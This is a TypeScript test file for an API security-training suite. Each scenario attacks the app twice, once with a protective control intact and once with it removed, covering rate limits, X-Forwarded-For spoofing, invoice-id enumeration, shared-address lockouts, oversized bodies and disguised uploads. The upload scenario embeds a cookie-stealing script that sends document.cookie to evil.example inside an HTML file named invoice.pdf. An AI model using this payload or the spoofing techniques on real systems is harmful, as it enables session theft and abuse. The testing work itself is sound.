import { randomBytes, randomUUID } from 'node:crypto';
import type { Type } from '@nestjs/common';
import { DocumentTypeDetector } from '@benteng/documents';
import { AbuseDetector, LoginThrottle, type ThrottleKey, RateLimiter } from '@benteng/security';
import { AbuseObserver } from '../../../apps/api/src/http/abuse-observer.js';
import { buildApi, type TestApi } from '../../support/api.js';
import { tenantWithPassword } from '../support/fixtures.js';
import type { TestTenant } from '../../support/factories.js';
import type { ApiResponse } from '../../support/public-api.js';
import { AddressWideAbuseDetector, BLIND_ABUSE_DETECTOR, DeclaredNameTypes, DOCUMENTS_MAX_BYTES_CEILING, TRUST_EVERY_PEER, UnlimitedRateLimiter } from '../../../apps/lab/src/removals.js';
import { exchange, scenario, type KillSwitchScenario } from '../support/kill-switch.js';

/**
 * Kill-switch scenarios for resource consumption and abuse (issue 8): RATE-LIMIT, CLIENT-IP-TRUST,
 * ABUSE-DETECTION, ABUSE-SHARED-ADDRESS, BODY-LIMIT and UPLOAD-CONTENT. Every request goes through Fastify's inject from
 * an address of its own (never 127.0.0.1, whose counters every test file shares), so a block or an
 * exhausted budget placed here cannot leak into another file.
 */

// --- Requests ------------------------------------------------------------------------------------

/** A fresh address from the benchmarking range 198.18.0.0/15 (never a real client, never loopback). */
export const freshIpv4 = (): string => `198.${18 + (randomBytes(1)[0]! & 1)}.${randomBytes(1)[0]!}.${randomBytes(1)[0]!}`;
/** A fresh IPv6 /64 from the documentation range, as a prefix to append the interface part to. */
export const freshIpv6Prefix = (): string => `2001:db8:${randomBytes(2).toString('hex')}:${randomBytes(2).toString('hex')}`;
/** A random address for X-Forwarded-For. */
export const spoofedIp = (): string => `203.0.113.${randomBytes(1)[0]!}`;

/** An answer as the test helpers describe it (status, headers, text, parsed JSON body). */
export type Sent = ApiResponse;

export interface SendOptions {
  /** The socket peer's address (Fastify inject's remoteAddress). */
  ip: string;
  /** Bearer credential: access token, API key or client token. */
  token?: string;
  headers?: Record<string, string>;
  /** An object is sent as JSON; a string or Buffer as it is (set content-type in headers). */
  body?: unknown;
}

/** One request to an app through Fastify inject, from the given peer address. */
export async function send(api: TestApi, method: string, url: string, options: SendOptions): Promise<Sent> {
  const headers: Record<string, string> = { ...(options.token === undefined ? {} : { authorization: `Bearer ${options.token}` }), ...options.headers };
  const res = await api.app
    .getHttpAdapter()
    .getInstance()
    .inject({
      method: method as 'GET',
      url,
      remoteAddress: options.ip,
      headers,
      ...(options.body === undefined ? {} : { payload: options.body as string }),
    });
  let body: unknown;
  try {
    body = res.body.length > 0 ? JSON.parse(res.body) : undefined;
  } catch {
    body = undefined;
  }
  return { status: res.statusCode, headers: res.headers, text: res.body, body };
}

/** Logs a user in from `ip`; throws with the answer on anything but 200. */
export async function login(api: TestApi, email: string, password: string, ip: string): Promise<string> {
  const res = await send(api, 'POST', '/v1/auth/login', { ip, body: { email, password } });
  if (res.status !== 200) throw new Error(`login answered ${res.status}: ${res.text}`);
  return (res.body as { accessToken: string }).accessToken;
}

export { tenantWithPassword };

/** A rate-limit policy: generous everywhere but the given cells (`{ user: { read: [5, 60] } }`). */
/**
 * What a sequence of answers shows, without the exact sequence: where a fixed rate-limit window
 * rolls over moves the first 429 by one, and the training report must read the same every run.
 */
function outcome(statuses: readonly number[]): string {
  const refused = statuses.filter((status) => status === 429).length;
  const first = statuses[0];
  return refused === 0 ? `every one answered ${statuses.every((status) => status === first) ? first : statuses.join(', ')}` : `answered ${first} at first, then 429 once the budget or threshold was spent`;
}

export function policy(cells: Record<string, Record<string, [number, number]>>): string {
  const generous: [number, number] = [1_000_000, 60];
  const anonymous = { auth: generous, write: generous, read: generous, search: generous, export: generous };
  return JSON.stringify({ ...cells, anonymous: { ...anonymous, ...cells['anonymous'] } });
}

/** A multipart/form-data body with one file in the `file` field. */
export function multipartFile(file: { filename: string; type: string; content: Buffer }): { contentType: string; body: Buffer } {
  const boundary = `----benteng${randomBytes(12).toString('hex')}`;
  const body = Buffer.concat([
    Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${file.filename}"\r\nContent-Type: ${file.type}\r\n\r\n`, 'utf8'),
    file.content,
    Buffer.from(`\r\n--${boundary}--\r\n`, 'utf8'),
  ]);
  return { contentType: `multipart/form-data; boundary=${boundary}`, body };
}

// --- The controls removed --------------------------------------------------------------------------

/**
 * A LoginThrottle that sees every attempt as coming from one address (the removed login half of
 * ABUSE-SHARED-ADDRESS): an account's failures at any address throttle it at every address. The
 * one address is random per instance, so runs do not share its counters.
 */
export class AddressBlindLoginThrottle extends LoginThrottle {
  private readonly everyone = freshIpv4();

  override check(key: ThrottleKey): ReturnType<LoginThrottle['check']> {
    return super.check({ ...key, ip: this.everyone });
  }

  override recordFailure(key: ThrottleKey): ReturnType<LoginThrottle['recordFailure']> {
    return super.recordFailure({ ...key, ip: this.everyone });
  }

  override recordSuccess(key: ThrottleKey): Promise<void> {
    return super.recordSuccess({ ...key, ip: this.everyone });
  }
}


// --- Scenarios -----------------------------------------------------------------------------------

const USER_READS = 5;
const ANONYMOUS_READS = 3;
const NOT_FOUND_THRESHOLD = 5;
const AUTH_FAILURE_THRESHOLD = 5;
const PAIR_FAILURES = 3;

const overrides = (intact: boolean, token: unknown, replacement: { value: unknown } | { useClass: Type }) => (intact ? [] : [{ token, ...replacement }]);

/** Short body for the report: a multipart form or a large JSON document is summarised, not copied. */
const summary = (text: string, bytes: number) => `${text} (${bytes.toLocaleString('en')} bytes)`;

export const LIMITS_SCENARIOS: KillSwitchScenario[] = [
  scenario<TestApi, { tenant: TestTenant; password: string }>({
    control: 'RATE-LIMIT',
    attack: `a user scrapes GET /v1/invoices past a budget of ${USER_READS} reads a minute`,
    removal: 'RateLimiter is replaced by one that admits every request',
    fixtures: () => tenantWithPassword('ks-rate-limit'),
    target: (intact) =>
      buildApi({
        env: { RATE_LIMIT_POLICY: policy({ user: { read: [USER_READS, 60] } }) },
        overrides: overrides(intact, RateLimiter, { useClass: UnlimitedRateLimiter as Type }),
      }),
    async run(api, { tenant, password }) {
      const ip = freshIpv4();
      const token = await login(api, tenant.users.member.email, password, ip);
      const statuses: number[] = [];
      let last: Sent | undefined;
      for (let i = 0; i < USER_READS + 3; i++) {
        last = await send(api, 'GET', '/v1/invoices', { ip, token });
        statuses.push(last.status);
      }
      return {
        succeeded: statuses.every((status) => status === 200),
        observed: `${USER_READS + 3} reads with a budget of ${USER_READS}: ${outcome(statuses)}`,
        exchanges: [exchange({ method: 'GET', url: '/v1/invoices', headers: { authorization: 'Bearer <member access token>' } }, last!)],
      };
    },
  }),

  scenario<TestApi, undefined>({
    control: 'CLIENT-IP-TRUST',
    attack: `a directly connected client rotates X-Forwarded-For to escape an anonymous budget of ${ANONYMOUS_READS}`,
    removal: `TRUSTED_PROXIES trusts every peer (${TRUST_EVERY_PEER}) instead of the real proxy range 10.0.0.0/8`,
    target: (intact) =>
      buildApi({ env: { TRUSTED_PROXIES: intact ? '10.0.0.0/8' : TRUST_EVERY_PEER, RATE_LIMIT_POLICY: policy({ anonymous: { read: [ANONYMOUS_READS, 60] } }) } }),
    async run(api) {
      const ip = freshIpv4();
      const statuses: number[] = [];
      let last: Sent | undefined;
      let spoof = '';
      for (let i = 0; i < ANONYMOUS_READS + 3; i++) {
        spoof = spoofedIp();
        last = await send(api, 'GET', '/health/live', { ip, headers: { 'x-forwarded-for': spoof } });
        statuses.push(last.status);
      }
      return {
        succeeded: statuses.every((status) => status === 200),
        observed: `${ANONYMOUS_READS + 3} requests from one peer, each with another X-Forwarded-For: ${outcome(statuses)}`,
        exchanges: [exchange({ method: 'GET', url: '/health/live', headers: { 'x-forwarded-for': spoof } }, last!)],
      };
    },
  }),

  scenario<TestApi, { tenant: TestTenant; password: string }>({
    control: 'ABUSE-DETECTION',
    attack: `a user walks random invoice ids past the enumeration threshold (${NOT_FOUND_THRESHOLD} misses a minute)`,
    removal: 'AbuseDetector is replaced by one that never counts and never blocks',
    fixtures: () => tenantWithPassword('ks-abuse'),
    target: (intact) =>
      buildApi({
        env: { ABUSE_MAX_NOT_FOUND: String(NOT_FOUND_THRESHOLD), ABUSE_WINDOW_S: '60' },
        overrides: overrides(intact, AbuseDetector, { value: BLIND_ABUSE_DETECTOR }),
      }),
    async run(api, { tenant, password }) {
      const ip = freshIpv4();
      // The intact run leaves the member blocked; the blind detector of the other run never asks.
      const token = await login(api, tenant.users.member.email, password, ip);
      const observer = api.app.get(AbuseObserver);
      const statuses: number[] = [];
      let last: Sent | undefined;
      let url = '';
      for (let i = 0; i < NOT_FOUND_THRESHOLD + 5; i++) {
        url = `/v1/invoices/${randomUUID()}`;
        last = await send(api, 'GET', url, { ip, token });
        statuses.push(last.status);
        await observer.settled();
      }
      return {
        succeeded: statuses.every((status) => status === 404),
        observed: `${NOT_FOUND_THRESHOLD + 5} guesses: ${outcome(statuses)}`,
        exchanges: [exchange({ method: 'GET', url, headers: { authorization: 'Bearer <access token>' } }, last!)],
      };
    },
  }),

  scenario<TestApi, { tenant: TestTenant; password: string }>({
    control: 'ABUSE-SHARED-ADDRESS',
    attack: `an anonymous client behind an office NAT sends ${AUTH_FAILURE_THRESHOLD + 3} bad tokens until the address is blocked; a colleague's valid access token from that address is refused`,
    removal: 'AbuseDetector reports every address block as explicit, so the address is refused before any credential is looked at',
    fixtures: () => tenantWithPassword('ks-shared-address'),
    target: (intact) =>
      buildApi({
        env: { ABUSE_MAX_AUTH_FAILURES: String(AUTH_FAILURE_THRESHOLD), ABUSE_WINDOW_S: '60' },
        overrides: overrides(intact, AbuseDetector, { useClass: AddressWideAbuseDetector }),
      }),
    async run(api, { tenant, password }) {
      const office = freshIpv4();
      // The colleague signed in from the office before the attacker started.
      const token = await login(api, tenant.users.member.email, password, office);
      const observer = api.app.get(AbuseObserver);
      const statuses: number[] = [];
      for (let i = 0; i < AUTH_FAILURE_THRESHOLD + 3; i++) {
        statuses.push((await send(api, 'GET', '/v1/invoices', { ip: office, token: `junk-${randomBytes(8).toString('hex')}` })).status);
        await observer.settled();
      }
      const res = await send(api, 'GET', '/v1/invoices', { ip: office, token });
      return {
        // The harm itself: the valid user behind the attacker's address is refused.
        succeeded: res.status === 429,
        observed: `${statuses.length} bad tokens from the office address: ${outcome(statuses)}; the colleague's valid token from the same address answered ${res.status}`,
        exchanges: [exchange({ method: 'GET', url: '/v1/invoices', headers: { authorization: 'Bearer <a colleague\'s valid access token, from the blocked office address>' } }, res)],
      };
    },
  }),

  scenario<TestApi, { tenant: TestTenant; password: string }>({
    control: 'ABUSE-SHARED-ADDRESS',
    attack: `a guesser behind an office NAT tries ${PAIR_FAILURES} wrong passwords on a member's account (LOGIN_MAX_FAILURES_PER_ACCOUNT_IP=${PAIR_FAILURES}); the member, signing in from home with the right password, is refused`,
    removal: 'LoginThrottle sees every attempt as coming from one address, so an account\'s failures at one address throttle it everywhere',
    fixtures: () => tenantWithPassword('ks-shared-login'),
    target: (intact) =>
      buildApi({
        env: { LOGIN_MAX_FAILURES_PER_ACCOUNT_IP: String(PAIR_FAILURES) },
        overrides: overrides(intact, LoginThrottle, { useClass: AddressBlindLoginThrottle }),
      }),
    async run(api, { tenant, password }) {
      const office = freshIpv4();
      const email = tenant.users.member.email;
      const guesses: number[] = [];
      for (let i = 0; i < PAIR_FAILURES; i++) guesses.push((await send(api, 'POST', '/v1/auth/login', { ip: office, body: { email, password: `wrong-${randomBytes(6).toString('hex')}` } })).status);
      const res = await send(api, 'POST', '/v1/auth/login', { ip: freshIpv4(), body: { email, password } });
      return {
        // The harm itself: the owner of the account, elsewhere, with the right password, is refused.
        succeeded: res.status === 429,
        observed: `${PAIR_FAILURES} wrong guesses from the office answered ${guesses.join(', ')}; the member's own sign-in from home answered ${res.status}`,
        exchanges: [exchange({ method: 'POST', url: '/v1/auth/login', headers: { 'content-type': 'application/json' }, body: { email, password: '<the right password, from home>' } }, res)],
      };
    },
  }),

  scenario<TestApi, undefined>({
    control: 'BODY-LIMIT',
    attack: 'an anonymous client posts a 3 MB JSON document to POST /v1/auth/login',
    removal: 'BODY_LIMIT_BYTES is raised to its ceiling (100 MiB), which no attack body reaches',
    target: (intact) => buildApi(intact ? {} : { env: { BODY_LIMIT_BYTES: '104857600' } }),
    async run(api) {
      const padding = 'a'.repeat(3 * 1024 * 1024);
      // A field after the padding: only a server that buffered and parsed all 3 MB can name it.
      const body = JSON.stringify({ email: 'victim@example.test', password: 'guess', padding, afterThePadding: true });
      const res = await send(api, 'POST', '/v1/auth/login', { ip: freshIpv4(), headers: { 'content-type': 'application/json' }, body });
      const pointers = ((res.body as { errors?: { pointer: string }[] } | undefined)?.errors ?? []).map((e) => e.pointer);
      const parsedWhole = pointers.includes('/afterThePadding');
      return {
        // The harm is the work, not the status: the whole document was read into memory and parsed.
        succeeded: parsedWhole,
        observed: `a ${body.length.toLocaleString('en')}-byte body answered ${res.status}${parsedWhole ? ', naming the field after the padding: the whole document was buffered and parsed' : ', before the body was parsed'}`,
        exchanges: [
          exchange(
            { method: 'POST', url: '/v1/auth/login', headers: { 'content-type': 'application/json' }, body: summary('{"email":"victim@example.test","password":"guess","padding":"aaaa…","afterThePadding":true}', body.length) },
            res,
          ),
        ],
      };
    },
  }),

  scenario<TestApi, { tenant: TestTenant; password: string }>({
    control: 'BODY-LIMIT',
    attack: 'a member uploads a document twice the configured upload cap of 1 MiB',
    removal: 'DOCUMENTS_MAX_BYTES (the multipart file limit and the service check) is raised to its ceiling (50 MiB)',
    fixtures: () => tenantWithPassword('ks-upload-cap'),
    target: (intact) => buildApi({ env: { DOCUMENTS_MAX_BYTES: intact ? String(1024 * 1024) : DOCUMENTS_MAX_BYTES_CEILING } }),
    async run(api, { tenant, password }) {
      const ip = freshIpv4();
      const token = await login(api, tenant.users.member.email, password, ip);
      const content = Buffer.alloc(2 * 1024 * 1024, 0x61);
      const form = multipartFile({ filename: 'big.txt', type: 'text/plain', content });
      const res = await send(api, 'POST', '/v1/documents', { ip, token, headers: { 'content-type': form.contentType }, body: form.body });
      return {
        succeeded: res.status === 201,
        observed: `a ${content.length.toLocaleString('en')}-byte upload answered ${res.status}`,
        exchanges: [
          exchange(
            {
              method: 'POST',
              url: '/v1/documents',
              headers: { authorization: 'Bearer <member access token>', 'content-type': 'multipart/form-data; boundary=…' },
              body: summary('file: big.txt (text/plain) = aaaa…', content.length),
            },
            res,
          ),
        ],
      };
    },
  }),

  scenario<TestApi, { tenant: TestTenant; password: string }>({
    control: 'UPLOAD-CONTENT',
    attack: 'an HTML page with a script, named invoice.pdf and declared application/pdf, is uploaded and served back',
    removal: 'DocumentTypeDetector is replaced by one that believes the file name',
    fixtures: () => tenantWithPassword('ks-upload'),
    target: (intact) => buildApi({ overrides: overrides(intact, DocumentTypeDetector, { useClass: DeclaredNameTypes }) }),
    async run(api, { tenant, password }) {
      const ip = freshIpv4();
      const token = await login(api, tenant.users.member.email, password, ip);
      const html = Buffer.from('<!DOCTYPE html><html><body><script>fetch("https://evil.example/?c="+document.cookie)</script></body></html>\n');
      const form = multipartFile({ filename: 'invoice.pdf', type: 'application/pdf', content: html });
      const upload = await send(api, 'POST', '/v1/documents', { ip, token, headers: { 'content-type': form.contentType }, body: form.body });
      let served: Sent | undefined;
      if (upload.status === 201) served = await send(api, 'GET', `/v1/documents/${(upload.body as { id: string }).id}/content`, { ip, token });
      return {
        succeeded: served?.status === 200 && served.text.includes('<script>'),
        observed: served
          ? `the upload answered 201 as ${String((upload.body as { contentType?: string }).contentType)}; the download answered ${served.status} with ${String(served.headers['content-type'])}`
          : `the upload answered ${upload.status}`,
        exchanges: [
          exchange(
            {
              method: 'POST',
              url: '/v1/documents',
              headers: { authorization: 'Bearer <member access token>', 'content-type': 'multipart/form-data; boundary=…' },
              body: `file: invoice.pdf (Content-Type: application/pdf) = ${html.toString('utf8').trim()}`,
            },
            upload,
          ),
          ...(served ? [exchange({ method: 'GET', url: '/v1/documents/:id/content' }, served)] : []),
        ],
      };
    },
  }),
];

